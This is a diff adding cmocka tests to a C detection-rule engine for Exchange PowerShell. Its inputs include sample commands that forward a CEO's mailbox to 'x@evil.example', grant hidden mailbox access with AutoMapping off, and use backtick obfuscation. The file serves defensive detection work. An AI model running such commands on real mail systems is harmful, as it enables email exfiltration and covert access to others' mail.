@@ -7,6 +7,7 @@
 #include <cmocka.h>
 
 #include "analyze/rules/rules.h"
+#include "base/buf.h"
 
 /* "VwBy..." below is UTF-16LE text in base64, as -EncodedCommand takes it. */
 static const struct row {
@@ -199,6 +200,44 @@ static void test_a_plain_name_beside_is_no_disguise(void **state) {
                         "Get-Mailbox x; A`dd-Mail`boxPermission x y; Add-MailboxPermission z y"));
 }
 
+/* `gap` blanks between the call and its parameter. */
+static bool forwarding_over(struct bench *b, int gap) {
+    struct buf text = {0};
+    buf_add_z(&text, "Set-Mailbox ceo");
+    while (gap--) buf_add_c(&text, ' ');
+    buf_add_z(&text, "-ForwardingSmtpAddress x@evil.example");
+    buf_add_c(&text, 0);
+    bool found = matches(b, "mailbox_forwarding_set", text.p);
+    buf_free(&text);
+    return found;
+}
+
+static void test_call_and_parameter_may_lie_on_several_lines_but_not_apart(void **state) {
+    assert_true(matches(*state, "mailbox_forwarding_set",
+                        "Set-Mailbox `\r\n -Identity ceo `\r\n -ForwardingAddress eve"));
+    assert_true(forwarding_over(*state, 450));
+    assert_false(forwarding_over(*state, 600));
+}
+
+static void test_parameters_in_a_hashtable_before_the_call_are_seen(void **state) {
+    assert_true(matches(*state, "mailbox_permission_unseen",
+                        "$p = @{ Identity = 'ceo'; AutoMapping = $false }\n"
+                        "Add-MailboxPermission @p"));
+    assert_true(matches(*state, "mailbox_forwarding_set",
+                        "$p=@{ForwardingSmtpAddress='x@evil.example'}; Set-Mailbox ceo @p"));
+    assert_false(matches(*state, "mailbox_permission_unseen",
+                         "$p = @{ AutoMapping = $true }; Add-MailboxPermission @p"));
+}
+
+/* Half a megabyte of beginnings without an end: what makes a net slow. */
+static void test_repeated_beginnings_do_not_run_out_of_time(void **state) {
+    struct buf text = {0};
+    while (text.n < 512 * 1024) buf_add_z(&text, "Set-Mailbox Add-MailboxPermission ");
+    buf_add_c(&text, 0);
+    assert_true(matches(*state, "mailbox_permission_added", text.p));
+    buf_free(&text);
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_every_rule_finds_its_text_and_leaves_the_other),
@@ -206,6 +245,9 @@ int main(void) {
         cmocka_unit_test(test_matches_come_sorted_by_name),
         cmocka_unit_test(test_empty_text_matches_nothing),
         cmocka_unit_test(test_a_plain_name_beside_is_no_disguise),
+        cmocka_unit_test(test_call_and_parameter_may_lie_on_several_lines_but_not_apart),
+        cmocka_unit_test(test_parameters_in_a_hashtable_before_the_call_are_seen),
+        cmocka_unit_test(test_repeated_beginnings_do_not_run_out_of_time),
     };
     return cmocka_run_group_tests_name("rules: texts", tests, set_up, tear_down);
 }
